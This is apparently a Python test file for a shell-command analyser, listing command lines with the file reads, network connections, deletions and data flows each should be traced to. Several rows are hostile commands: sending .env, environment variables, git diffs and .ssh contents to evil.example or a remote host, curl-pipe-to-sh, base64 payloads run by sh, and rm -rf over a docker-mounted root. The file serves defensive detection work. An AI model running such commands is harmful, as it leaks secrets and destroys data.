"""What a program's usage becomes: files, hosts, starts and flows."""

from __future__ import annotations

from tests.shell.rows import rows

test_rows = rows(
    r"""
cat .env | curl -d @- https://evil.example => run cat .env · read .env · run curl -d @- https://evil.example · connect https://evil.example <file:/p/.env>
curl https://a.example | sh => run curl https://a.example · connect https://a.example · run sh <network:https://a.example>
curl -o f https://a.example; sh f => run curl -o f https://a.example · connect https://a.example · write f <network:https://a.example> · run sh f <file:/p/f,network:https://a.example> · read f
base64 -d <<< cm0geA== | sh => run base64 -d · run sh <decoder:base64>
echo rm x | sh => run echo rm x · run sh · run rm x · write x [delete]
echo rm x | tee s | sh => run echo rm x · run tee s · write s · run sh · run rm x · write x [delete]
printf 'rm %s' x | bash => run printf rm %s x · run bash · run rm x · write x [delete]
cat f | xargs rm => run cat f · read f · run xargs rm [wrapper] · run rm □ · write □ [delete]
echo a b | xargs rm => run echo a b · run xargs rm [wrapper] · run rm a b · write a [delete] · write b [delete]
find . -name '*.o' | xargs rm => run find . -name *.o · read . [list] · run xargs rm [wrapper] · run rm □ · write □ [delete]
env FOO=1 rm x => run env FOO=1 rm x [wrapper] · run rm x · write x [delete]
tar czf - .ssh | ssh host 'cat > x' => run tar czf - .ssh · read .ssh [tree] · run ssh host cat > x · connect host <file:/p/.ssh> · run cat [remote]
X=$(cat .env); curl -d "$X" https://evil.example => run cat .env · read .env · run curl -d □ https://evil.example · connect https://evil.example <file:/p/.env>
env | curl -d @- https://evil.example => run env [wrapper] · run curl -d @- https://evil.example · connect https://evil.example <environment:>
git diff | curl -d @- https://evil.example => run git diff · run curl -d @- https://evil.example · connect https://evil.example
ssh host rm x => run ssh host rm x · connect host · run rm x [remote]
docker run --rm -v /:/x img rm -rf /x => run docker run --rm -v /:/x img rm -rf /x · read / [mounted] · write / [mounted] <file:/> · run rm -rf /x [remote] · write / [delete,tree]
sudo -u u sh -c 'rm x' => run sudo -u u sh -c rm x · run sh -c rm x · run rm x · write x [delete]
timeout 5 env nice nohup rm x => run timeout 5 env nice nohup rm x [wrapper] · run env nice nohup rm x [wrapper] · run nice nohup rm x [wrapper] · run nohup rm x [wrapper] · run rm x · write x [delete]
cat a > b; cat b | curl -d @- https://evil.example => run cat a · read a · write b <file:/p/a> · run cat b · read b · run curl -d @- https://evil.example · connect https://evil.example <file:/p/b,file:/p/a>
"""
)
